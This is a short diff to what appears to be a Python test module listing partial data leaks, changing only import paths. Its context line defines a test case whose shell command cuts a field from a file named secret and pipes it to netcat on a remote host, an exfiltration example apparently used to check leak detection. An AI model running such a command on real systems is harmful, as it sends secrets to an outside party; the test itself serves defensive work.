@@ -1,8 +1,8 @@
 # SPDX-License-Identifier: GPL-3.0-or-later
 """Leaks of less than the whole: a field, a byte, a bit, a count, a yes or no, a length that differs."""
 
-from guest_run import CONTENT, SECRET
-from row import Leak, exactly, holds, snippet
+from tests.kernel.guest_run import CONTENT, SECRET
+from tests.leaks.row import Leak, exactly, holds, snippet
 
 LEAKS = [
     Leak("field", "cut -d, -f2 secret | tail -n 1 | nc remote 9"),
